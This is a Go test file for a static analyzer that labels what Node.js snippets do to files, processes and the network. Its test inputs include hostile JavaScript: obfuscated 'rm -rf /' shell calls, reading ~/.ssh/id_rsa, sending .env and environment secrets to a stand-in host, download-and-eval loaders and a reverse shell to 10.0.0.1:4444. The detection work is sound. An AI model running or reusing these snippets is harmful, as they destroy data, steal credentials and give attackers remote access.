package code

import "testing"

func TestNodeFilesAreSeen(t *testing.T) {
	check(t, Node, []claim{
		{"console.log('rm -rf /')", ""},
		{"require('fs').readFileSync('a.json','utf8')", "read a.json"},
		{"const fs = require('node:fs'); fs.writeFileSync('a', 'x')", "write a"},
		{"import fs from 'fs'; fs.appendFileSync('a', 'x')", "append a"},
		{"import * as fs from 'fs/promises'; await fs.unlink('a')", "delete a"},
		{"import { rm as r } from 'fs/promises'; await r('a', { recursive: true })", "delete-tree a"},
		{"const { rmSync } = require('fs'); rmSync('uploads', {recursive:true,force:true})", "delete-tree uploads"},
		{"require('fs').promises.rename('a', 'b')", "move a > b"},
		{"require('fs').copyFileSync('a', 'b')", "read a; write b <file:a"},
		{"require('fs')['unlinkSync']('a')", "delete a"},
		{"require('fs')['unl' + 'inkSync']('a')", "delete a"},
		{"const fs=require('fs'); fs.chmodSync('a', 0o777)", "mode a (511)"},
		{"const fs=require('fs'), path=require('path'); fs.unlinkSync(path.join('a', '..', 'b'))", "delete b"},
		{"const fs=require('fs'),os=require('os'); fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`)", "read ~/.ssh/id_rsa"},
		{"for (const f of ['a', 'b']) require('fs').unlinkSync(f)", "delete a; delete b"},
		{"['a', 'b'].forEach(f => require('fs').unlinkSync(f))", "delete a; delete b"},
		{"const fs=require('fs'); for (const f of fs.readdirSync('x')) fs.unlinkSync('x/' + f)", "list x; delete x/* glob"},
		{"const rimraf = require('rimraf'); rimraf.sync('dist')", "delete-tree dist"},
		{"fs.createReadStream('a').pipe(fs.createWriteStream('b'))", "read a; write b <file:a"},
		{"const fs=require('fs'); fs.readFile('a', (e, d) => fs.writeFile('b', d, () => {}))", "read a; write b <file:a"},
		{"await Bun.write('a', 'x')", "write a"},
		{"Deno.removeSync('a', { recursive: true })", "delete-tree a"},
		{"const p = process.argv[2]; require('fs').unlinkSync(p)", "delete []"},
	})
}

func TestNodeProgramsAndCodeAreSeen(t *testing.T) {
	check(t, Node, []claim{
		{"require('child_process').execSync('rm -rf /')", "shell rm -rf /"},
		{"const { exec } = require('child_process'); exec('id', (e, out) => console.log(out))", "shell id"},
		{"const cp = require('child_process'); cp.spawn('rm', ['-rf', 'x'])", "run rm -rf x"},
		{"const cp = require('child_process'); cp.spawn('rm', args)", "run rm []"},
		{"const cp = require('child_process'); cp.spawn('rm -rf x', { shell: true })", "shell rm -rf x"},
		{"const util=require('util'); const e=util.promisify(require('child_process').exec); await e('id')", "shell id"},
		{"require('child_process').execSync(Buffer.from('cm0gLXJmIC8=', 'base64').toString())", "shell rm -rf /"},
		{"require('child_process').execSync(atob('aWQ='))", "shell id"},
		{"require('child_process').execSync('/ fr- mr'.split('').reverse().join(''))", "shell rm -rf /"},
		{"require('child_process').execSync(String.fromCharCode(105, 100))", "shell id"},
		{"process.mainModule.require('child_process').execSync('id')", "shell id"},
		{"globalThis.process.mainModule.require('child_process').execSync('id')", "shell id"},
		{"import { $ } from 'zx'; await $`rm -rf ${'x'}`", "shell rm -rf x"},
		{"import { execa } from 'execa'; await execa('git', ['status'])", "run git status"},
		{"eval('require(\"fs\").unlinkSync(\"a\")')", `eval require("fs").unlinkSync("a"); delete a`},
		{"new Function('require(\"fs\").unlinkSync(\"a\")')()", `eval require("fs").unlinkSync("a"); delete a`},
		{"[].constructor.constructor('return process')().exit()", "eval return process"},
		{"(function(){}).constructor('return process')().mainModule.require('child_process').execSync('id')", "eval return process; shell id"},
		{"setTimeout(() => require('fs').unlinkSync('a'), 1000)", "delete a"},
		{"const run = c => require('child_process').execSync(c); run('id')", "shell id"},
		{"class A { constructor(p) { this.p = p } go() { require('fs').unlinkSync(this.p) } } new A('x').go()", "delete x"},
		{"const o = { run: require('child_process').exec }; o.run('id')", "shell id"},
		{"require('child_process').exec.call(null, 'id')", "shell id"},
		{"Reflect.apply(require('child_process').execSync, null, ['id'])", "shell id"},
		{"process.kill(123)", "process 123"},
		{"require('./local')", "import ./local"},
		{"import x from 'some-lib'", "import some-lib"},
		{"const x = require('some-lib'); x.go(require('fs').readFileSync('.env'))", "import some-lib; import some-lib <file:.env; read .env"},
	})
}

func TestNodeNetworkAndDataAreFollowed(t *testing.T) {
	check(t, Node, []claim{
		{"fetch('https://x.example')", "fetch https://x.example"},
		{"fetch('https://x.example', { method: 'POST', body: require('fs').readFileSync('.env') })", "send https://x.example <file:.env; read .env"},
		{"fetch(`https://x.example/?k=${process.env.NPM_TOKEN}`)", "fetch [https://x.example/?k=] <env:NPM_TOKEN; env NPM_TOKEN"},
		{"const fs=require('fs'),h=require('https');const r=h.request('https://x.example',{method:'POST'});r.end(fs.readFileSync(process.env.HOME+'/.env'))", "send https://x.example; send https://x.example <file:~/.env; read ~/.env; env HOME"},
		{"const h=require('https'); h.get({hostname:'x.example', path:'/a'}, r => r.on('data', d => eval(d.toString())))", "fetch https://x.example/a; eval [] <net:https://x.example/a !download-and-run; ? runs text that is not known"},
		{"require('https').get('https://x.example/i.js',r=>{let b='';r.on('data',d=>b+=d).on('end',()=>eval(b))})", "fetch https://x.example/i.js; eval [] <net:https://x.example/i.js !download-and-run; ? runs text that is not known"},
		{"fetch('https://x.example').then(r => r.text()).then(eval)", "fetch https://x.example; eval [] <net:https://x.example !download-and-run; ? runs text that is not known"},
		{"const r = await fetch('https://x.example'); require('fs').writeFileSync('a.js', await r.text())", "fetch https://x.example; write a.js <net:https://x.example"},
		{"const axios = require('axios'); axios.post('https://x.example', process.env)", "send https://x.example <env"},
		{"console.log(process.env)", "env-all; print <env"},
		{"console.log(JSON.stringify(process.env))", "env-all; print <env"},
		{"console.log(process.env.API_KEY)", "print <env:API_KEY; env API_KEY"},
		{"console.log(process.version, process.env.NODE_ENV)", "env NODE_ENV"},
		{"const n=require('net'),cp=require('child_process');const s=n.connect(4444,'10.0.0.1');const sh=cp.spawn('/bin/sh',[]);s.pipe(sh.stdin);sh.stdout.pipe(s)", "connect 10.0.0.1:4444; run /bin/sh; send 10.0.0.1:4444 <net:10.0.0.1:4444 !tunnel-or-reverse-shell; send 10.0.0.1:4444 <cmd:/bin/sh !tunnel-or-reverse-shell"},
		{"require('http').createServer((q, r) => r.end('x')).listen(8080)", "listen 0.0.0.0:8080"},
		{"require('http').createServer().listen(8080, '127.0.0.1')", "listen 127.0.0.1:8080"},
		{"require('dns').lookup(require('fs').readFileSync('k') + '.x.example', () => {})", "fetch [] <file:k; read k"},
		{"new (require('sqlite3').Database)('a.db').run('DELETE FROM t')", "write a.db; destroy t (delete every row) <db:a.db"},
	})
}

func TestNodeThatOnlyComputesDoesNothing(t *testing.T) {
	for _, text := range []string{
		"const x = [1, 2, 3].map(n => n * 2).filter(Boolean); console.log(x.join(','), `${x.length} items`)",
		"const m = new Map(); m.set('a', 1); m.get('a'); m.delete('a')",
		"class A extends B { static x = 1; #p = 2; get y() { return this.#p } async *z() { yield 1 } }",
		"const re = /ab[/]c/g; 'x'.replace(re, (m, a) => a ?? m); a / b / c",
		"switch (x) { case 1: y(); break; default: z() } for (let i = 0; i < 10; i++) {} do { } while (0)",
		"const { a, b: { c = 1 } = {}, ...rest } = obj; const [p, , q = 2] = arr",
		"interface A { x: string } type B = A | null; enum C { X, Y } const f = <T,>(x: T): Promise<T[]> => Promise.resolve([x as T]); export type { A }",
		"function f(this: Foo, a?: number, ...b: string[]): void {} const g = async (x: number) => { await x }; let z: Array<string> = []; z!.push('a')",
		"label: for (const k in o) { continue label }; if (a) b; else c; try { d() } catch { e() } finally { }",
		"export default defineConfig({ plugins: [react()], server: { port: 5174 } })",
		"const t = a ? b : c ? (d) : e; const u = (a, b) => ({ a, b, [a]: 1, m() {}, get n() { return 1 }, 'x-y': 2 })",
		"x?.y?.[0]?.(1) ?? z; x ||= 1; y &&= 2; z ??= 3; 1_000; 0xff; 1n; .5e3",
		"app.get('/users', (req, res) => res.json([])); app.post('/x', h)",
		"JSON.parse('{}').a.b.save; test('adds', () => { expect(1 + 1).toBe(2) })",
		"#!/usr/bin/env node\n// comment\n/* rm -rf / */ console.log(1)",
	} {
		r := ReadText(Node, text)
		if len(r.Effects)+len(r.Unknown) > 0 {
			t.Errorf("%s\ndoes %v", text, show(r))
		}
	}
}

func TestNodeBeyondTheReaderIsAnIssue(t *testing.T) {
	for _, text := range []string{
		"eval(x)", "require(x).y()", "require('child_process')[x]('id')", "new Function(x)()", "process.binding('fs')", "global[x]('y')", "'abc", "foo(", "import(x)", "process[x]()",
		"const m = require('fs'); m[k]('a')", "`${`", "/* never ends", "} {",
	} {
		r := ReadText(Node, text)
		if len(r.Unknown) == 0 && text != "} {" {
			t.Errorf("%s\nis taken for understood: %v", text, show(r))
		}
	}
}

func TestNodeTakesLinearTime(t *testing.T) {
	linear(t, Node, "(", "[", "{", "`${", "a=>", "(a)=>", "x?", "x?.", "a<", "a<b>", "new ", "!", "f(", "if(x)", "class A{", "x=x+x\n", "for(;;){", "'", "/", "/*", "...", "a:", "x=[x,x]\n", "async ", "import ", "export ", "function f(){f()}\n", "<a>", "@", "y=>y(", "type A<")
}

func FuzzNode(f *testing.F) {
	fuzzLang(f, Node, "const {a,b:[c]}=require('fs');a`x${c}y`", "class A extends B{static #x=1;async*m(){}}", "for await(const x of y){}", "a?.b?.[c]?.(d)??e", "x=>({...y})", "import a,{b as c} from 'd';export*from 'e'", "let x:Map<string,A[]>=<T>(y)", "/a[/]b/.test(c)/d", "switch(a){case 1:default:}", "`${`${1}`}`", "new(a.b)(c)", "async(a)=>b")
}
